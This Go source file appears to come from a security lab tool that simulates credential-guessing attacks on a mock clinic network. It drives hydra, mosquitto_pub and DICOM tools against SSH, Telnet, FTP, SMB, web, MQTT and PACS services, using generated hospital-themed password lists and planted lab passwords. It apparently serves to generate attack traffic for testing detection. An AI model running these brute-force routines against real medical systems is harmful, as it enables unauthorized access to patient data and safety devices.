package attack

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/cordonhq/cordon/internal/lab"
)

// guessing is a credential attack by hydra on one service.
type guessing struct {
	victim  string
	module  string // of hydra
	port    uint16
	user    string
	right   string // the password that lets in, tried last; empty: none does
	options string // of the module
	// pace is how long one guess takes, for how many fit in the duration.
	pace time.Duration
}

// mostGuesses bounds every guessing.
const mostGuesses = 400

// passwords makes n guesses as lists of them have: words of the trade, with
// endings. The last is the right one, if any.
func (s *stage) passwords(n int, right string) []string {
	words := []string{"admin", "password", "clinic", "hospital", "service", "biomed", "welcome", "radiology", "nurse", "letmein", "change", "monitor", "summer", "winter", "doctor"}
	ends := []string{"", "1", "12", "123", "1234", "!", "2024", "2025", "01", "99", "#1", "007", "00", "x", "@1", "321", "_1", "-1", "77", "55", "88", "11", "22", "33", "66", "44", "9", "8"}
	var out []string
	for _, e := range ends {
		for _, w := range words {
			if p := w + e; p != right {
				out = append(out, p)
			}
		}
	}
	s.dice.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	if right == "" {
		return out[:n]
	}
	return append(out[:n-1], right)
}

// guesses is how many fit in the duration, at that pace.
func (s *stage) guesses(pace time.Duration) int {
	return min(max(int(s.duration/pace), 3), mostGuesses)
}

var (
	hydraAttempt = regexp.MustCompile(`(?m)^\[ATTEMPT\]`)
	hydraFound   = regexp.MustCompile(`(?m)^\[\d+\]\[[^\]]+\] host: .* login: `)
)

// guess runs hydra. Its first step succeeds if the service took guesses, its
// second if one of them was right.
func (g guessing) guess(ctx context.Context, s *stage) error {
	list, err := s.file("passwords", s.passwords(s.guesses(g.pace), g.right)...)
	if err != nil {
		return err
	}
	var out string
	answered := false
	packets := []Selector{s.to(g.victim, "tcp", g.port)}
	err = s.step(ctx, "guess passwords", packets, func(ctx context.Context) (string, error) {
		ctx, cancel := context.WithTimeout(ctx, s.duration+10*time.Second)
		defer cancel()
		args := []string{"-I", "-V", "-t", "4", "-w", "5", "-l", g.user, "-P", list, "-s", strconv.Itoa(int(g.port))}
		if g.options != "" {
			args = append(args, "-m", g.options)
		}
		out, err = s.tool(ctx, "hydra", append(args, g.module+"://"+ipOf(g.victim))...)
		n := len(hydraAttempt.FindAllString(out, -1))
		if err == nil && n == 0 {
			err = errors.New(lastLine(out))
		}
		answered = err == nil
		return fmt.Sprintf("%d guesses", n), err
	})
	if err != nil {
		return err
	}
	return s.step(ctx, "sign in", nil, func(context.Context) (string, error) {
		switch {
		case hydraFound.MatchString(out):
			return "a password was found", nil
		case !answered:
			return "", errSkipped
		}
		return "", errors.New("no password was found")
	})
}

// guessSSH tries a name that no machine has.
func guessSSH(ctx context.Context, s *stage) error {
	return guessing{victim: "ehr", module: "ssh", port: 22, user: "clinic-admin", pace: 700 * time.Millisecond}.guess(ctx, s)
}

// guessTelnet opens the maintenance console of the gas panel and guesses its
// password.
func guessTelnet(ctx context.Context, s *stage) error {
	const user, right = "service", "medgas01"
	at := device("gas-panel-1")
	l, err := at.Namespace().Listen(ctx, "tcp", at.IP().String()+":23")
	if err != nil {
		return err
	}
	c := &console{title: "Medical gas alarm panel, maintenance console", user: user, password: right}
	s.beside(ctx, func(ctx context.Context) error { return c.serve(ctx, l) })
	return guessing{victim: at.Name, module: "telnet", port: 23, user: user, right: right, pace: 800 * time.Millisecond}.guess(ctx, s)
}

// guessFTP tries the FTP side of the file share, which vsftpd plays.
func guessFTP(ctx context.Context, s *stage) error {
	at := device("files")
	config, err := s.file("vsftpd.conf", "listen=YES", "listen_address="+at.IP().String(), "background=NO", "anonymous_enable=NO", "local_enable=YES",
		"ftpd_banner=Clinic file share", "secure_chroot_dir="+s.dir, "pam_service_name=cordon-lab", "xferlog_enable=NO", "max_login_fails=3", "delay_failed_login=0", "seccomp_sandbox=NO")
	if err != nil {
		return err
	}
	if err := s.serve(ctx, at.Home(), at.IP().String()+":21", "vsftpd", config); err != nil {
		return err
	}
	return guessing{victim: at.Name, module: "ftp", port: 21, user: "clinic-scans", pace: 500 * time.Millisecond}.guess(ctx, s)
}

// guessSMB tries an account that the share really has: samba's own list of
// accounts is the lab's, and needs a name that the machine knows.
func guessSMB(ctx context.Context, s *stage) error {
	const user, right = "backup", "winter2025"
	at := device("files")
	folder := filepath.Join(lab.Dir, at.Name)
	account := right + "\n" + right + "\n"
	if out, err := s.toolAt(ctx, at.Namespace(), account, "smbpasswd", "-c", filepath.Join(folder, "smb.conf"), "-s", "-a", user); err != nil {
		return fmt.Errorf("make an account: %w: %s", err, out)
	}
	s.afterwards(func() error {
		_, err := s.toolAt(context.WithoutCancel(ctx), at.Namespace(), "", "smbpasswd", "-c", filepath.Join(folder, "smb.conf"), "-x", user)
		return err
	})
	return guessing{victim: at.Name, module: "smb", port: 445, user: user, right: right, pace: 100 * time.Millisecond}.guess(ctx, s)
}

// guessHTTP tries the archive's web interface.
func guessHTTP(ctx context.Context, s *stage) error {
	return guessing{victim: "pacs", module: "http-get", port: 8042, user: "radiology", right: "radiology", options: "/system", pace: 50 * time.Millisecond}.guess(ctx, s)
}

// mqttPort is where the broker wants a password, while it is guessed.
const mqttPort = 1884

// guessMQTT opens a listener of the broker that wants a password, and tries
// some with its own client.
func guessMQTT(ctx context.Context, s *stage) error {
	const user, right = "bridge", "clinic2025"
	at := device("broker")
	accounts := filepath.Join(s.dir, "accounts")
	if out, err := s.tool(ctx, "mosquitto_passwd", "-b", "-c", accounts, user, right); err != nil {
		return fmt.Errorf("make an account: %w: %s", err, out)
	}
	config, err := s.file("mosquitto.conf", fmt.Sprintf("listener %d %s", mqttPort, at.IP()), "allow_anonymous false", "password_file "+accounts, "persistence false", "user root", "log_type none")
	if err != nil {
		return err
	}
	address := fmt.Sprintf("%s:%d", at.IP(), mqttPort)
	if err := s.serve(ctx, at.Home(), address, "mosquitto", "-c", config); err != nil {
		return err
	}
	return s.tryAll(ctx, "guess passwords", s.to(at.Name, "tcp", mqttPort), s.passwords(s.guesses(100*time.Millisecond), right), func(ctx context.Context, guess string) (string, error) {
		return s.tool(ctx, "mosquitto_pub", "-h", at.IP().String(), "-p", strconv.Itoa(mqttPort), "-i", "bridge", "-u", user, "-P", guess, "-t", "home/test", "-m", "x")
	})
}

// guessAETitles looks for the name by which the archive answers to, then for
// one of those that it lets search.
func guessAETitles(ctx context.Context, s *stage) error {
	victim := ipOf("pacs")
	sel := s.to("pacs", "tcp", 104)
	called := []string{"ANY-SCP", "ORTHANC", "STORESCP", "DCM4CHEE", "ARCHIVE", "CONQUESTSRV1", "IMAGING", "SYNAPSE", "VNA", "PACS1", "DICOM", "PACS"}
	err := s.tryAll(ctx, "guess the called AE title", sel, called, func(ctx context.Context, guess string) (string, error) {
		return s.tool(ctx, "echoscu", "-to", "2", "-aet", "ECHOSCU", "-aec", guess, victim, "104")
	})
	if err != nil {
		return err
	}
	calling := []string{"FINDSCU", "WORKSTATION", "RADIANT", "OSIRIX", "HOROS", "VIEWER", "CT", "MR", "READING", "CT01", "WS1", "READING1"}
	return s.tryAll(ctx, "guess a calling AE title", sel, calling, func(ctx context.Context, guess string) (string, error) {
		out, err := s.tool(ctx, "findscu", "-to", "2", "-S", "-aet", guess, "-aec", "PACS", "-k", "0008,0052=STUDY", "-k", "0010,0020", victim, "104")
		if err == nil && strings.Contains(out, "Failed") {
			err = errors.New("refused")
		}
		return out, err
	})
}

// tryAll tries guesses one after another until one is right or the duration is
// over. The step succeeds if one was.
func (s *stage) tryAll(ctx context.Context, name string, sel Selector, guesses []string, try func(ctx context.Context, guess string) (string, error)) error {
	return s.step(ctx, name, []Selector{sel}, func(ctx context.Context) (string, error) {
		ctx, cancel := context.WithTimeout(ctx, s.duration+5*time.Second)
		defer cancel()
		for i, g := range guesses {
			_, err := try(ctx, g)
			if err == nil {
				return fmt.Sprintf("right after %d guesses", i+1), nil
			}
			if ctx.Err() != nil {
				return fmt.Sprintf("%d guesses", i+1), errors.New("no time left")
			}
		}
		return fmt.Sprintf("%d guesses", len(guesses)), errors.New("none was right")
	})
}
